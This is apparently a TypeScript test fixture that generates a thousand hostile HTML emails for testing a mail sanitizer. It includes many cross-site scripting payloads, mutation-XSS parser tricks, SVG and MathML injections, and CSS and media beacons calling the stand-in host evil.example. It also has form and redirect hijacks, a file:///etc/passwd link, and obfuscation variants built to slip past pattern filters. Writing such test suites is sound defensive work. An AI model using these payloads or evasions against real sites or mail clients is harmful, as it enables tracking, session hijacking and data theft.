// A thousand mails that try to run something, to ask for something, or to take the page over: every
// way below in every dress below it. Each asks for an address of its own, so that a hit can be told.

/** Nobody's: whatever is asked of it goes to the recording proxy. */
export const EVIL = 'evil.example'

const RUN = 'top.ran=(top.ran||0)+1'

type Way = (url: string) => string

/** Scripts, in all the places that can hold one. */
const SCRIPTS: Way[] = [
  (url) => `<script>${RUN}</script><script src="${url}"></script>`,
  () => `<img src=x onerror="${RUN}">`,
  () => `<body onload="${RUN}"><p>x</p></body>`,
  () => `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  () => `<input autofocus onfocus="${RUN}">`,
  () => `<video autoplay onloadstart="${RUN}"><source src=x onerror="${RUN}"></video>`,
  () => `<marquee onstart="${RUN}">x</marquee>`,
  () => `<div style="animation:a 1s" onanimationstart="${RUN}">x</div>`,
  () => `<a href="javascript:${RUN}" id=a autofocus>x</a>`,
  () => `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  () => `<iframe src="javascript:${RUN}"></iframe>`,
  () => `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  () =>
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  () => `<template><script>${RUN}</script></template>`,
  () => `<portal src="javascript:${RUN}"></portal>`,
  () => `<xss id=x tabindex=1 onactivate="${RUN}" onfocusin="${RUN}">x</xss>`,
]

/** Foreign content: SVG and MathML, where other rules hold. */
const FOREIGN: Way[] = [
  () => `<svg onload="${RUN}"></svg>`,
  () => `<svg><script>${RUN}</script></svg>`,
  () => `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></animate></svg>`,
  () => `<svg><set attributeName=onmouseover to="${RUN}"></set></svg>`,
  () =>
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  (url) => `<svg><image href="${url}" xlink:href="${url}"></image></svg>`,
  (url) => `<svg><use href="${url}#a"></use></svg>`,
  (url) => `<svg><filter id=f><feImage href="${url}"></feImage></filter></svg>`,
  (url) => `<svg><style>@import "${url}";</style></svg>`,
  () => `<math><mtext><script>${RUN}</script></mtext></math>`,
  () => `<math href="javascript:${RUN}">x</math>`,
  () =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  () =>
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
]

/** What is harmless when it is read once, and something else when it is read again. */
const MUTATED: Way[] = [
  () =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  () => `<svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg>`,
  () => `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  () => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  () => `<style><style/><img src=x onerror=${RUN}>`,
  () => `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  () => `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  () => `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  () => `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  () => `<!--><img src=x onerror=${RUN}>-->`,
  () => `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  () =>
    `<a title="&lt;img src=x onerror=${RUN}&gt;"><noembed><b title="</noembed><img src=x onerror=${RUN}>">`,
]

/** Styles that ask for something, or cover what is ours. */
const STYLES: Way[] = [
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<style>body{background:url(${url})}</style>`,
  (url) => `<style>@font-face{font-family:f;src:url(${url})}p{font-family:f}</style><p>x</p>`,
  (url) => `<style>p::after{content:url(${url})}</style><p>x</p>`,
  (url) => `<style>li{list-style-image:url(${url})}</style><ul><li>x</li></ul>`,
  (url) => `<div style="background-image:url('${url}')">x</div>`,
  (url) => `<div style="cursor:url(${url}),auto;width:100px">x</div>`,
  (url) => `<div style="background:image-set('${url}' 1x)">x</div>`,
  (url) => `<div style="--u:url(${url});background:var(--u)">x</div>`,
  (url) => `<div style="mask:url(${url});filter:url(${url}#f)">x</div>`,
  (url) => `<div style="border-image:url(${url}) 1">x</div>`,
  (url) => `<div style="behavior:url(${url});-moz-binding:url(${url})">x</div>`,
  (url) => `<div style="width:expression(${RUN});background:u\\72l(${url})">x</div>`,
  (url) => `<style>a[href^="h"]{background:url(${url})}</style><a href="https://x.example">x</a>`,
]

/** Pixels, media and everything else that loads by itself. */
const LOADED: Way[] = [
  (url) => `<img src="${url}" width=1 height=1>`,
  (url) => `<img srcset="${url} 1x, ${url}?2 2x" src=x>`,
  (url) => `<picture><source srcset="${url}"><img src=x></picture>`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
  (url) => `<body background="${url}"><p>x</p></body>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<video src="${url}" poster="${url}" autoplay></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<video><track default src="${url}"><source src="${url}"></video>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=preload as=image href="${url}"><link rel=prefetch href="${url}">`,
  (url) => `<link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}">`,
  (url) => `<link rel=icon href="${url}"><link rel=manifest href="${url}">`,
  (url) => `<img src="//${url.replace(/^https?:\/\//, '')}">`,
  (url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}" src=x>`,
]

/** What takes the page elsewhere, or sends what is typed. */
const TAKEN: Way[] = [
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  () => `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  (url) => `<meta http-equiv=content-security-policy content="report-uri ${url}"><img src=x>`,
  (url) => `<base href="${url}/"><img src="relative.png"><a href="x">x</a>`,
  (url) => `<base target=_top href="${url}"><a href=x autofocus>x</a>`,
  (url) =>
    `<form action="${url}" id=f><input name=a value=b autofocus></form><button form=f>x</button>`,
  (url) => `<form action="${url}"><button formaction="javascript:${RUN}">x</button></form>`,
  () => `<a href="data:text/html,<script>${RUN}</script>" target=_top>x</a>`,
  () => `<a href="blob:null/0-0" target=_top>x</a>`,
  (url) => `<a href="https://x.example" ping="${url}" attributionsrc="${url}">x</a>`,
  () => `<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">x</a>`,
  () => `<p id=ran name=marked>x</p><form name=document><input name=cookie></form><img name=top>`,
]

/** The first attack of each comes before the second of any. */
export const WAYS = [...SCRIPTS, ...FOREIGN, ...MUTATED, ...STYLES, ...LOADED, ...TAKEN]

/** How the same is dressed so that a reader of patterns does not know it again. */
const DRESSES: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
  (html) => html.replace(/ (on\w+|src|href|style)=/gi, (_, name: string) => `\n\t${name}\n=\n`),
  (html) => html.replace(/ (on\w+|src|href)=/gi, (_, name: string) => `/${name}=`),
  (html) => html.replace(/javascript:/gi, 'java&#x09;script&colon;'),
  (html) => html.replace(/(url|import)/gi, (word) => `${word[0] ?? ''}/**/${word.slice(1)}`),
  (html) => `<p title="a<!-- -->b">${html}`,
  (html) => `<table><tr><td><b><i><u><s>${html}`,
  (html) => `<div><!--[if mso]>${html}<![endif]-->${html}</div>`,
  (html) => `</title></style></script></textarea>${html}`,
  (html) => `<svg><desc>${html}</desc></svg>${html}`,
  (html) => html.replace(/>/, '\u0000>').replace(/"/g, "'"),
]

export interface Attack {
  number: number
  html: string
}

/** Where an attack is at home. */
export const addressOf = (number: number) => `http://${EVIL}/${String(number)}`

/** The first `count` of them; each way comes once before any comes again. */
export function attacks(count: number): Attack[] {
  const made: Attack[] = []
  for (const dress of DRESSES)
    for (const way of WAYS) {
      const number = made.length
      if (number === count) return made
      made.push({ number, html: dress(way(addressOf(number))) })
    }
  return made
}
